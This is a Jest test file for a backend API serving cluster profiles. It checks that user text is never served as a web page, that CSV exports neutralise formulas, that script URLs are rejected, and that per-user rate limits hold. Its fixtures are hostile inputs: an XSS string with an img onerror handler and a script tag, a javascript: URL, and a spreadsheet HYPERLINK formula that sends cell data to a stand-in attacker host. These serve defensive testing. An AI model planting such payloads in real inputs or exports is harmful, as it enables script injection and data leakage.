import { mockCredentials } from '@backstage/backend-test-utils';
import request from 'supertest';
import { MigratedDatabases } from '../database/__testUtils__/MigratedDatabases';
import { aBundle } from '../__testUtils__/bundles';
import { startWorld, type World } from '../__testUtils__/startWorld';

jest.setTimeout(120_000);

const databases = MigratedDatabases.create({
  ids: ['SQLITE_3', 'POSTGRES_15'],
});

const SCRIPT = '<img src=x onerror=alert(1)><script>alert(1)</script>';
const FORMULA = '=HYPERLINK("https://evil.example/"&A1)';

describe.each(databases.eachSupportedId())(
  'what somebody wrote, %s',
  databaseId => {
    let world: World;

    beforeAll(async () => {
      world = await startWorld({ knex: await databases.init(databaseId) });
      await world.publish({ spec: { releaseNotes: SCRIPT } });
      await world.apply(
        world.create({ description: SCRIPT, comment: `${FORMULA} ${SCRIPT}` }),
      );
      await world.as('paula')('put', '/write-switch', {
        writes: true,
        reason: FORMULA,
      });
    });
    afterAll(() => world.stop());

    const answer = (path: string) =>
      request(world.server)
        .get(`/api/cluster-profiles/v1${path}`)
        .set('Authorization', mockCredentials.user.header('user:default/alice'))
        .set('Accept', 'text/html,*/*');

    it('is no formula in an export', async () => {
      const { text, headers } = await answer('/activity?format=csv');
      expect(headers['content-disposition']).toContain('attachment');
      expect(text).toContain('HYPERLINK');
      for (const cell of text.matchAll(/(?:^|,)"((?:[^"]|"")*)"/gm)) {
        expect(cell[1]).not.toMatch(/^\s*[=+\-@\t\r]/);
      }
    });

    it.each([
      ['/clusters/payments', 'application/json'],
      ['/profiles/base', 'application/json'],
      ['/profiles/base/versions/1.0.0', 'application/json'],
      ['/changes', 'application/json'],
      ['/clusters/payments/export', 'application/yaml'],
      ['/activity?format=jsonl', 'application/jsonl'],
      ['/activity?format=csv', 'text/csv'],
    ])('is never sent as a page: %s', async (path, type) => {
      const { status, type: sent } = await answer(path);
      expect([status, sent]).toEqual([200, type]);
    });

    it('is not repeated as a page by an error', async () => {
      const response = await answer(`/clusters/${encodeURIComponent(SCRIPT)}`);
      expect([response.status, response.type]).toEqual([
        404,
        'application/json',
      ]);
    });

    it.each([
      ['the name of a cluster', () => world.create({ cluster: SCRIPT })],
      ['the owner of a cluster', () => world.create({ owner: SCRIPT })],
      [
        'the name of a profile',
        () => ({ kind: 'publish', bundle: aBundle({ name: SCRIPT }) }),
      ],
      [
        'the address that a profile is read from',
        () => ({ kind: 'publish', url: `${'javascript'}:alert(1)` }),
      ],
    ])('is no script in %s', async (_what, make) => {
      const { status } = await world.as('paula')('post', '/changes', make());
      expect([400, 403]).toContain(status);
    });
  },
);

describe('a flood of requests', () => {
  it('is stopped by the limit of its sender, and others go on', async () => {
    const world = await startWorld({
      config: { limits: { requestsPerMinute: 20, writesPerMinute: 5 } },
    });
    const alice = world.as('alice');
    const answers = [];
    for (let index = 0; index < 25; index++) {
      answers.push((await alice('get', '/clusters')).status);
    }
    expect(answers.filter(status => status === 429).length).toBeGreaterThan(0);
    expect(answers.slice(0, 15)).toEqual(Array(15).fill(200));
    const refused = await alice('get', '/clusters');
    expect(refused.body.error).toMatchObject({
      name: 'TooManyRequestsError',
      message: expect.stringContaining('20 requests within a minute'),
    });
    // Whoever carries her token is no other sender.
    expect((await world.asActorFor('alice')('get', '/clusters')).status).toBe(
      429,
    );
    expect((await world.as('bob')('get', '/clusters')).status).toBe(200);
    const previews = [];
    for (let index = 0; index < 7; index++) {
      previews.push((await world.as('carol')('post', '/previews', {})).status);
    }
    expect(previews).toEqual([400, 400, 400, 400, 400, 429, 429]);
    await world.stop();
  });
});
